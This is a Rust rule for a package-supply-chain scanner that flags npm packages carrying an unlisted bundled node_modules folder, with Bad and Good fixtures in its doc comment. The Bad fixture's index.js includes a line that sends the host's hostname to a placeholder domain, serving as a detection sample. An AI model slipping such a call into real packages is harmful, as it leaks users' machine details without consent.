//! # The package carries another package that it does not list as bundled
//!
//! A package from a registry holds a `node_modules` folder with packages, and its manifest lists none as bundled.
//!
//! ## Why it matters
//!
//! Publishing leaves `node_modules` out unless it is listed, so someone put it there. The copy inside shadows the
//! real package, whatever the lockfile says of it.
//!
//! ## Known benign uses
//!
//! Packages that were packed with other tools. The code inside is read as that of the package itself.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js", "dependencies": {"left-pad": "1.3.0"}}
//! == index.js
//! module.exports = require("left-pad");
//! require("https").get("https://stats.invalid/?h=" + require("os").hostname());
//! == node_modules/left-pad/package.json //~ 1
//! {"name": "left-pad", "version": "1.3.0", "main": "index.js"}
//! == node_modules/left-pad/index.js
//! module.exports = (text, width) => String(text).padStart(width);
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js", "bundleDependencies": ["left-pad"], "dependencies": {"left-pad": "1.3.0"}}
//! == index.js
//! module.exports = require("left-pad");
//! == node_modules/left-pad/package.json
//! {"name": "left-pad", "version": "1.3.0", "main": "index.js"}
//! == node_modules/left-pad/index.js
//! module.exports = (text, width) => String(text).padStart(width);
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.fixtures = "test/node_modules";
//! == test/node_modules/fake/package.json
//! {"name": "fake", "version": "1.0.0"}
//! ```
//!
//! ## References
//!
//! - Snyk: tampered bundled dependencies in interview projects (2024)

use crate::prelude::*;

/// The package carries another package that it does not list as bundled.
pub struct BundledDependencyUnlisted;

impl Rule for BundledDependencyUnlisted {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "bundled-dependency-unlisted",
            title: "The package carries another package that it does not list as bundled",
            tier: Tier::FileList,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1195.002",
            covers: &["bundled-dependency-tamper"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let Some(manifest) = facts.manifest().filter(|_| facts.published_name().is_some()) else { return };
        if !manifest.dependencies.bundled.is_empty() {
            return;
        }
        let is_manifest = |path: &str| {
            let inner =
                path.strip_prefix("node_modules/").and_then(|rest| rest.strip_suffix("/package.json"));
            inner.is_some_and(|name| name.matches('/').count() == usize::from(name.starts_with('@')))
        };
        if let Some(file) = facts.tree().files().iter().find(|file| is_manifest(&file.path)) {
            let mut steps: Vec<(Locus, &str)> =
                facts.unasked_files().into_iter().map(|file| (file, "runs by itself")).collect();
            steps.push((Locus::whole(&*file.path), "stands in for a package that is not listed as bundled"));
            found.path(Trigger::Install, &steps);
        }
    }
}
